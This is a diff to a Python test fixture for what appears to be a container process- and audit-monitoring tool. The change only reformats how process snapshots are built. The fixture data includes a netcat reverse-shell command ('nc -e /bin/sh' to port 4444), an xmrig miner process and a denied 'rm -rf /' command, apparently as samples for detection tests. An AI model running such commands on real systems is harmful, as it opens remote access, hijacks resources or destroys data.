@@ -59,11 +59,15 @@ def mixed() -> list[Recorded]:
         return ProcessInfo(pid=pid, ppid=1, uid=1000, comm=comm, exe=f"/usr/bin/{comm}", argv=argv)
 
     rs = proc(9, "nc", "nc", "-e", "/bin/sh", "127.0.0.1", "4444")
-    processes: Recorded = [
-        (t.PROCESSES, "B", encode(ProcessSnapshot(container_id="B", host="h1", time=T0, full=True, processes=(rs,)))),
-        (t.PROCESSES, "C", encode(ProcessSnapshot(container_id="C", host="h1", time=T0 + 1, full=True,
-                                                  processes=(proc(3, "perl", "perl"), proc(4, "xmrig", "xmrig"))))),
-    ]  # fmt: skip
+    snap_b = ProcessSnapshot(container_id="B", host="h1", time=T0, full=True, processes=(rs,))
+    snap_c = ProcessSnapshot(
+        container_id="C",
+        host="h1",
+        time=T0 + 1,
+        full=True,
+        processes=(proc(3, "perl", "perl"), proc(4, "xmrig", "xmrig")),
+    )
+    processes: Recorded = [(t.PROCESSES, "B", encode(snap_b)), (t.PROCESSES, "C", encode(snap_c))]
     audit: Recorded = [_denied("A", T0 + 7000, "rm -rf /"), _denied("C", T0 + 2000, "sudo ls")]
     gone = AuditEvent(
         container_id="D", host="h2", time=T0 + 9000, category=AuditCategory.LIFECYCLE, action="destroy"
